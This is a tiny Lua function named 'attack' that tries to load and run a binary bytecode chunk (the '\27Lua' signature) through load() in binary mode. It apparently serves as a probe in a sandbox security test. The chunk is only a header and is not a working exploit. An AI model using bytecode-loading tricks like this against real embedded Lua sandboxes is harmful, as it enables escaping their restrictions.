function attack(rec)
  return assert(load("\27Lua", "x", "b"))()
end
